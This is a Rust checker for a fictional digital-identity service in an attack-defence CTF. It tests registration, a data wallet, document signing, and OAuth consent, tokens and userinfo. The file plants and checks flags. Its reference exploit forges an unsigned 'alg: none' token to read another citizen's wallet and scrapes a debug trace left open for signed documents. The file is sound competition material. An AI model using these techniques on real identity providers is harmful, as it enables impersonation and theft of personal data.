//! The checker of CityPass Digital Identity (城市通數碼身份), the citizen digital identity.
//!
//! - `check` behaves like citizens and the e-services that rely on CityPass: register, log in,
//!   fill the data wallet, sign documents and have strangers verify them, register a relying
//!   service, consent (or refuse) on the consent page, swap the code for tokens, check the ID
//!   token's signature and read exactly the consented claims at userinfo, revoke tokens, read
//!   the account page, log out. Which features it touches, in what order and with what data
//!   comes from the action's seed.
//! - Flag store 0 is a private wallet item (flag id: the owner's CityPass ID); store 1 is a
//!   signed document's content (flag id: the document's reference). The state handed to `get`
//!   is the owner's identity card number and password.
//! - `exploit` is the organisers' reference attack: store 0 presents an unsigned (`alg: none`)
//!   access token about the owner to userinfo; store 1 reads the signing module's debug trace,
//!   left open from development.

mod citypass;
mod crypto;
mod data;
mod oauth;

use gongfang_checker_sdk::{Checker, Ctx, Failure, Outcome, Planted, Rng, bilingual, flags, log};
use serde_json::{Value, json};

use crate::citypass::{CityPass, Item, Login, Signed};
use crate::data::Citizen;
use crate::oauth::{Decision, Expected, Request};

/// The service's checker.
pub struct CitizenId;

/// The stores `put` and `get` know.
const STORE_WALLET: u8 = 0;
const STORE_DOCUMENT: u8 = 1;

/// Every wallet scope: what the reference exploit claims its forged token was granted.
const ALL_WALLET_SCOPES: &str = "openid profile wallet.address wallet.education wallet.vaccination wallet.licence";

/// Registers a fresh citizen and logs them in, with a new identity card number when one is
/// taken. Returns the session, the citizen and their CityPass ID.
fn new_citizen(ctx: &Ctx, rng: &mut Rng) -> Outcome<(CityPass, Citizen, String)> {
    let mut session = CityPass::new(ctx);
    for _ in 0..4 {
        let citizen = data::citizen(rng);
        let Some(sub) = session.register(&citizen)? else {
            log!("identity card number {} is taken; trying another", citizen.id_number);
            continue;
        };
        return match session.login(&citizen.id_number, &citizen.password)? {
            Login::In => Ok((session, citizen, sub)),
            Login::Rejected => Err(Failure::mumble("Login does not work / 登入無法運作")
                .with_private(format!("{} was just registered but cannot log in", citizen.id_number))),
        };
    }
    Err(Failure::mumble("Registration does not work / 登記無法運作")
        .with_private("four fresh identity card numbers in a row were taken"))
}

/// Logs in as the owner of a planted flag; a service that no longer knows them lost the flag.
fn login_owner(ctx: &Ctx, id_number: &str, password: &str) -> Outcome<CityPass> {
    let mut session = CityPass::new(ctx);
    match session.login(id_number, password)? {
        Login::In => Ok(session),
        Login::Rejected => {
            Err(Failure::corrupt("A flag is missing: its owner's account is gone / 旗幟遺失：擁有人的帳戶已不存在")
                .with_private(format!("{id_number} cannot log in any more")))
        }
    }
}

fn state(fields: Value) -> Vec<u8> {
    serde_json::to_vec(&fields).expect("a JSON value always serialises")
}

fn read_state(state: &[u8]) -> Value {
    // The state is what this checker's own `put` returned; anything else is a platform bug.
    serde_json::from_slice(state).unwrap_or_else(|e| panic!("put's state is not the JSON it wrote: {e}"))
}

fn state_str<'a>(state: &'a Value, key: &str) -> &'a str {
    state.get(key).and_then(Value::as_str).unwrap_or_else(|| panic!("put's state has no {key:?}"))
}

fn shuffle<T>(rng: &mut Rng, items: &mut [T]) {
    for i in (1..items.len()).rev() {
        items.swap(i, rng.range(0, i as u64 + 1) as usize);
    }
}

/// The profile must be the one just registered.
fn check_profile(session: &mut CityPass, citizen: &Citizen, sub: &str) -> Outcome<()> {
    match session.me()? {
        Some(me)
            if me.sub == sub
                && me.name == citizen.name
                && me.name_zh == citizen.name_zh
                && me.phone == citizen.phone
                && me.id_number.get(..4) == citizen.id_number.get(..4) =>
        {
            Ok(())
        }
        other => Err(Failure::mumble("The profile shows the wrong citizen / 個人資料顯示錯誤的市民")
            .with_private(format!("registered {citizen:?} as {sub}, /api/me says {other:?}"))),
    }
}

/// The wallet as the citizen reads it back: the list (sometimes of one kind), one item, and
/// sometimes removing one.
fn wallet_round_trip(rng: &mut Rng, session: &mut CityPass, items: &mut Vec<Item>) -> Outcome<()> {
    let kind = (rng.range(0, 3) == 0).then(|| items[rng.range(0, items.len() as u64) as usize].kind.clone());
    let listed = session.wallet(kind.as_deref())?;
    let mut want: Vec<&Item> = items.iter().filter(|i| kind.as_ref().is_none_or(|k| *k == i.kind)).collect();
    want.sort_by_key(|i| i.id);
    let mut got: Vec<&Item> = listed.iter().collect();
    got.sort_by_key(|i| i.id);
    if got != want {
        return Err(Failure::mumble("The data wallet does not list what was added / 資料錢包未列出已加入的項目")
            .with_private(format!("kind {kind:?}: listed {got:?}, added {want:?}")));
    }
    let pick = rng.range(0, items.len() as u64) as usize;
    let id = items[pick].id;
    if session.item(id)?.as_ref() != Some(&items[pick]) {
        return Err(Failure::mumble("A wallet item reads differently from what was added / 錢包項目與加入時不同")
            .with_private(format!("item {id}")));
    }
    if items.len() > 1 && rng.range(0, 3) == 0 {
        session.remove_item(id)?;
        if session.item(id)?.is_some() {
            return Err(Failure::mumble("A removed wallet item is still there / 已移除的錢包項目仍然存在")
                .with_private(format!("item {id}")));
        }
        items.remove(pick);
    }
    Ok(())
}

/// Signatures as others see them: a stranger verifies a document and a forged copy, the signer
/// reads the list and the document.
fn signatures(
    ctx: &Ctx,
    rng: &mut Rng,
    session: &mut CityPass,
    signed: &[(Signed, data::Document)],
    citizen: &Citizen,
    sub: &str,
) -> Outcome<()> {
    let (doc, original) = &signed[rng.range(0, signed.len() as u64) as usize];
    let digest = crypto::hex(&crypto::sha256(original.content.as_bytes()));
    if doc.digest != digest {
        return Err(Failure::mumble("Signing reports the wrong digest / 簽署回報的摘要錯誤")
            .with_private(format!("{}: {} instead of SHA-256 {digest}", doc.reference, doc.digest)));
    }
    let mut stranger = CityPass::new(ctx);
    let verdict = stranger.verify(&doc.reference, &original.content, &doc.signature)?;
    let signer_ok = verdict.signer.as_ref().is_some_and(|(s, n)| s == sub && *n == citizen.name);
    if !verdict.valid || !signer_ok || verdict.digest != digest {
        return Err(Failure::mumble("A valid signature does not verify / 有效的簽署未能通過核實")
            .with_private(format!("{}: {verdict:?}", doc.reference)));
    }
    if rng.range(0, 2) == 0 {
        let forged = format!("{}\n{}", original.content, rng.sentence());
        if stranger.verify(&doc.reference, &forged, &doc.signature)?.valid {
            return Err(Failure::mumble("An altered document still verifies / 經改動的文件仍通過核實")
                .with_private(format!("{} verified with a sentence added", doc.reference)));
        }
    }
    if rng.range(0, 2) == 0 {
        let listed = session.documents()?;
        for (d, _) in signed {
            if !listed.iter().any(|l| l.reference == d.reference && l.signature == d.signature) {
                return Err(Failure::mumble("The list of signed documents misses one / 已簽署文件清單缺少文件")
                    .with_private(format!("{} not among {} listed", d.reference, listed.len())));
            }
        }
    }
    match session.document(&doc.reference)? {
        Some(d) if d.content.as_deref() == Some(original.content.as_str()) => Ok(()),
        other => {
            Err(Failure::mumble("A signed document reads differently from what was signed / 已簽署文件與簽署時不同")
                .with_private(format!("{}: {other:?}", doc.reference)))
        }
    }
}

/// A visitor who is not logged in must see neither documents nor wallet items.
fn strangers_see_nothing(ctx: &Ctx, signed: &[(Signed, data::Document)], items: &[Item]) -> Outcome<()> {
    let mut visitor = CityPass::new(ctx);
    let reference = &signed[0].0.reference;
    let doc = visitor.document_raw(reference)?;
    let item = visitor.get(&format!("/api/wallet/{}", items[0].id))?;
    if doc.status == 200 || item.status == 200 {
        return Err(Failure::mumble(
            "Private documents or wallet items are open to everyone / 私人文件或錢包項目公開予所有人",
        )
        .with_private(format!("{reference}: {}, item {}: {}", doc.status, items[0].id, item.status)));
    }
    Ok(())
}

/// A relying service signs the citizen in: consent page, code, tokens, ID token, userinfo, and
/// sometimes a replayed code, a revoked token and the authorisation records.
fn relying_service(
    ctx: &Ctx,
    rng: &mut Rng,
    session: &mut CityPass,
    citizen: &Citizen,
    sub: &str,
    items: &[Item],
) -> Outcome<()> {
    let service = data::relying_service(rng);
    // Developers register their service with an account of their own, or with the citizen's.
    let client = if rng.range(0, 2) == 0 {
        let (mut developer, _, _) = new_citizen(ctx, rng)?;
        let client = developer.register_client(&service)?;
        if rng.range(0, 2) == 0 && !developer.clients()?.contains(&client.client_id) {
            return Err(Failure::mumble("A registered relying service is not listed / 已登記的依賴服務未有列出")
                .with_private(format!("{} missing", client.client_id)));
        }
        client
    } else {
        session.register_client(&service)?
    };
    let scopes = data::scopes(rng);
    let state = data::opaque(rng);
    let nonce = if rng.range(0, 4) == 0 { String::new() } else { data::opaque(rng) };
    let request =
        Request { client: &client, service_name: &service.name, scopes: &scopes, state: &state, nonce: &nonce };
    if rng.range(0, 4) == 0 && oauth::consent(session, &request, false)? != Decision::Denied {
        return Err(Failure::mumble("Refusing consent does not work / 拒絕授權無法運作"));
    }
    let Decision::Code(code) = oauth::consent(session, &request, true)? else {
        return Err(Failure::mumble("Giving consent does not work / 授權同意無法運作"));
    };

    let mut backend = CityPass::new(ctx);
    let basic = rng.range(0, 2) == 0;
    let tokens = oauth::tokens(oauth::exchange(&mut backend, &client, &code, basic)?)?;
    let discovery = backend.discovery()?;
    let issuer = citypass::str_field(&discovery, "issuer", ("the OpenID configuration", "OpenID 設定"))?;
    oauth::check_id_token(&tokens.id_token, &client, &issuer, sub, &nonce)?;
    let info = oauth::userinfo(&mut backend, &tokens.access_token, rng.range(0, 3))?
        .expect_status(200)
        .map_err(|f| f.context(citypass::broken(("userinfo", "用戶資料端點 (userinfo)"))))?
        .json()?;
    let want = Expected {
        sub,
        name: &citizen.name,
        name_zh: &citizen.name_zh,
        phone: &citizen.phone,
        id_number: &citizen.id_number,
        wallet: items,
    };
    oauth::check_claims(&info, &scopes, &want)?;

    if rng.range(0, 3) == 0 {
        let again = oauth::exchange(&mut backend, &client, &code, !basic)?;
        if again.status != 400 {
            return Err(Failure::mumble("An authorisation code works twice / 授權碼可重複使用")
                .with_private(format!("second exchange answered {}", again.status)));
        }
    }
    if rng.range(0, 3) == 0 {
        let auth = citypass::basic_auth(&client.client_id, &client.secret);
        let response = backend.post_form(
            "/oauth/revoke",
            &[("token", tokens.access_token.as_str()), ("token_type_hint", "access_token")],
            &[("Authorization", auth.as_str())],
        )?;
        response.expect_status(200).map_err(|f| f.context(citypass::broken(("token revocation", "撤銷權杖"))))?;
        let after = oauth::userinfo(&mut backend, &tokens.access_token, rng.range(0, 3))?;
        if after.status != 401 {
            return Err(Failure::mumble("A revoked access token still works / 已撤銷的存取權杖仍然有效")
                .with_private(format!("userinfo answered {}", after.status)));
        }
    }
    if rng.range(0, 3) == 0 {
        let scope = scopes.join(" ");
        if !session.consents()?.iter().any(|(c, s)| *c == client.client_id && *s == scope) {
            return Err(Failure::mumble(
                "The authorisation records miss a consent just given / 授權紀錄缺少剛給予的授權",
            )
            .with_private(format!("{} with {scope:?}", client.client_id)));
        }
    }
    Ok(())
}

/// The pages a citizen sees: the account page, the verification page.
fn pages(rng: &mut Rng, session: &mut CityPass, citizen: &Citizen, sub: &str, items: &[Item]) -> Outcome<()> {
    let lang = if rng.range(0, 2) == 0 { "en" } else { "zh-HK" };
    let page = session.page(&format!("/account?lang={lang}"), ("the account page", "帳戶頁面"))?;
    let item = &items[rng.range(0, items.len() as u64) as usize];
    if !page.contains(sub)
        || !page.contains(&data::html_escape(&citizen.name))
        || !page.contains(&data::html_escape(&item.title))
    {
        return Err(Failure::mumble(
            "The account page does not show the citizen's own data / 帳戶頁面未顯示市民本人的資料",
        )
        .with_private(format!("{sub} {:?} item {:?}", citizen.name, item.title)));
    }
    if rng.range(0, 2) == 0 {
        let verify = session.page("/verify", ("the verification page", "核實頁面"))?;
        if !verify.contains("/api/verify") {
            return Err(Failure::mumble("The verification page has no form / 核實頁面沒有表格"));
        }
    }
    Ok(())
}

/// The actions themselves; [`Checker`] gives their failures bilingual messages.
impl CitizenId {
    fn run_check(ctx: &Ctx) -> Outcome<()> {
        let mut rng = ctx.rng(1);
        let mut front = CityPass::new(ctx);
        let (path, brand) = match rng.range(0, 3) {
            0 => ("/?lang=zh-HK", "城市通數碼身份"),
            1 => ("/?lang=en", "CityPass Digital Identity"),
            _ => ("/", "CityPass"),
        };
        if !front.page(path, ("the home page", "主頁"))?.contains(brand) {
            return Err(Failure::mumble("The home page is not CityPass's / 主頁並非城市通的主頁")
                .with_private(format!("{path} lacks {brand}")));
        }

        let (mut session, citizen, sub) = new_citizen(ctx, &mut rng)?;
        check_profile(&mut session, &citizen, &sub)?;
        let mut items = Vec::new();
        for _ in 0..rng.range(1, 4) {
            let item = data::wallet_item(&mut rng, None);
            items.push(session.add_item(&item)?);
        }
        let mut signed = Vec::new();
        for _ in 0..rng.range(1, 3) {
            let document = data::document(&mut rng, &citizen);
            signed.push((session.sign(&document)?, document));
        }
        log!(
            "{sub} added {} wallet items and signed {:?}",
            items.len(),
            signed.iter().map(|(s, _)| &s.reference).collect::<Vec<_>>()
        );

        // The relying service always runs; the rest in a seeded order, some skipped.
        let mut steps: Vec<u8> = vec![0, 1, 2, 3, 4];
        shuffle(&mut rng, &mut steps);
        for step in steps {
            let wanted = rng.range(0, 10) < 7;
            match step {
                0 if wanted => wallet_round_trip(&mut rng, &mut session, &mut items)?,
                1 if wanted => signatures(ctx, &mut rng, &mut session, &signed, &citizen, &sub)?,
                2 => relying_service(ctx, &mut rng, &mut session, &citizen, &sub, &items)?,
                3 if wanted => pages(&mut rng, &mut session, &citizen, &sub, &items)?,
                4 if wanted => strangers_see_nothing(ctx, &signed, &items)?,
                _ => {}
            }
        }
        if rng.range(0, 2) == 0 {
            session.logout()?;
            if session.me()?.is_some() {
                return Err(Failure::mumble("Logging out does not end the session / 登出後仍保持登入狀態"));
            }
        }
        Ok(())
    }

    fn run_put(ctx: &Ctx, store: u8, flag: &str) -> Outcome<Planted> {
        let mut rng = ctx.rng(2);
        let (mut session, citizen, sub) = new_citizen(ctx, &mut rng)?;
        let login = json!({"id_number": citizen.id_number, "password": citizen.password});
        match store {
            STORE_WALLET => {
                // The flag among a few everyday items, as a real wallet looks.
                for _ in 0..rng.range(0, 3) {
                    session.add_item(&data::wallet_item(&mut rng, None))?;
                }
                let item = session.add_item(&data::secret_wallet_item(&mut rng, flag))?;
                if rng.range(0, 2) == 0 {
                    session.add_item(&data::wallet_item(&mut rng, None))?;
                }
                log!("{sub} keeps the flag in wallet item {} ({})", item.id, item.kind);
                let mut state_fields = login;
                state_fields["item"] = json!(item.id);
                Ok(Planted { flag_id: sub, state: state(state_fields) })
            }
            STORE_DOCUMENT => {
                if rng.range(0, 2) == 0 {
                    session.sign(&data::document(&mut rng, &citizen))?;
                }
                let document = data::secret_document(&mut rng, &citizen, flag);
                let signed = session.sign(&document)?;
                log!("{sub} signed the flag as {}", signed.reference);
                let mut state_fields = login;
                state_fields["ref"] = json!(signed.reference);
                state_fields["signature"] = json!(signed.signature);
                state_fields["content"] = json!(document.content);
                Ok(Planted { flag_id: signed.reference, state: state(state_fields) })
            }
            _ => unreachable!("the SDK only passes stores below FLAG_STORES"),
        }
    }

    fn run_get(ctx: &Ctx, store: u8, flag: &str, state: &[u8]) -> Outcome<()> {
        let state = read_state(state);
        let id_number = state_str(&state, "id_number");
        let mut owner = login_owner(ctx, id_number, state_str(&state, "password"))?;
        let mut rng = ctx.rng(3);
        match store {
            STORE_WALLET => {
                let id = state.get("item").and_then(Value::as_u64).expect("put's state has the wallet item id");
                // Citizens come back to their wallet in different ways.
                let item = if rng.range(0, 2) == 0 {
                    owner.item(id)?
                } else {
                    owner.wallet(None)?.into_iter().find(|i| i.id == id)
                };
                match item {
                    Some(i) if i.content.contains(flag) => Ok(()),
                    Some(_) => {
                        Err(Failure::corrupt("A flag is missing: a wallet item was altered / 旗幟遺失：錢包項目遭改動")
                            .with_private(format!("item {id} of {id_number} no longer holds the flag")))
                    }
                    None => {
                        Err(Failure::corrupt("A flag is missing: a wallet item is gone / 旗幟遺失：錢包項目已不存在")
                            .with_private(format!("item {id} of {id_number} is gone")))
                    }
                }
            }
            STORE_DOCUMENT => {
                let reference = state_str(&state, "ref");
                if rng.range(0, 3) == 0 && !owner.documents()?.iter().any(|d| d.reference == reference) {
                    return Err(Failure::corrupt(
                        "A flag is missing: a signed document is gone / 旗幟遺失：已簽署文件已不存在",
                    )
                    .with_private(format!("{reference} is not among {id_number}'s documents")));
                }
                match owner.document(reference)? {
                    Some(d) if d.content.as_deref().is_some_and(|c| c.contains(flag)) => {}
                    Some(_) => {
                        return Err(Failure::corrupt(
                            "A flag is missing: a signed document was altered / 旗幟遺失：已簽署文件遭改動",
                        )
                        .with_private(format!("{reference} no longer holds the flag")));
                    }
                    None => {
                        return Err(Failure::corrupt(
                            "A flag is missing: a signed document is gone / 旗幟遺失：已簽署文件已不存在",
                        )
                        .with_private(format!("{reference}: 404 to its signer")));
                    }
                }
                if rng.range(0, 3) == 0 {
                    let verdict = CityPass::new(ctx).verify(
                        reference,
                        state_str(&state, "content"),
                        state_str(&state, "signature"),
                    )?;
                    if !verdict.valid {
                        return Err(Failure::mumble("A valid signature does not verify / 有效的簽署未能通過核實")
                            .with_private(format!("{reference}: {verdict:?}")));
                    }
                }
                Ok(())
            }
            _ => unreachable!("the SDK only passes stores below FLAG_STORES"),
        }
    }

    fn run_exploit(ctx: &Ctx, store: u8, flag_id: &str) -> Outcome<Vec<String>> {
        match store {
            STORE_WALLET => {
                // Userinfo takes the token's `alg` from the token itself, and "none" needs no
                // signature: any relying service may speak for any CityPass ID.
                assert!(
                    flag_id.starts_with("CP") && flag_id.bytes().all(|b| b.is_ascii_alphanumeric()),
                    "store 0 flag ids are CityPass IDs, got {flag_id:?}"
                );
                let mut rng = ctx.rng(4);
                let (mut attacker, _, _) = new_citizen(ctx, &mut rng)?;
                let client = attacker.register_client(&data::relying_service(&mut rng))?;
                let token = oauth::unsigned_token(flag_id, &client.client_id, ALL_WALLET_SCOPES);
                let response = oauth::userinfo(&mut CityPass::new(ctx), &token, 0)?;
                log!("userinfo with an unsigned token about {flag_id}: {}", response.status);
                Ok(if response.status == 200 { flags::find(&response.body) } else { Vec::new() })
            }
            STORE_DOCUMENT => {
                // The signing module's request trace is still served under /debug/.
                assert!(
                    flag_id.starts_with("SD-") && flag_id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'),
                    "store 1 flag ids are document references, got {flag_id:?}"
                );
                let response = CityPass::new(ctx).get(&format!("/debug/sign-requests?ref={flag_id}"))?;
                log!("debug trace of {flag_id}: {}", response.status);
                Ok(if response.status == 200 { flags::find(&response.body) } else { Vec::new() })
            }
            _ => unreachable!("the SDK only passes stores below FLAG_STORES"),
        }
    }
}

impl Checker for CitizenId {
    const SERVICE: &'static str = "citizenid";
    const FLAG_STORES: u8 = 2;
    const HAS_EXPLOIT: bool = true;

    fn check(ctx: &Ctx) -> Outcome<()> {
        bilingual(CitizenId::run_check(ctx))
    }

    fn put(ctx: &Ctx, store: u8, flag: &str) -> Outcome<Planted> {
        bilingual(CitizenId::run_put(ctx, store, flag))
    }

    fn get(ctx: &Ctx, store: u8, flag: &str, state: &[u8]) -> Outcome<()> {
        bilingual(CitizenId::run_get(ctx, store, flag, state))
    }

    fn exploit(ctx: &Ctx, store: u8, flag_id: &str) -> Outcome<Vec<String>> {
        bilingual(CitizenId::run_exploit(ctx, store, flag_id))
    }
}

gongfang_checker_sdk::export_checker!(CitizenId);
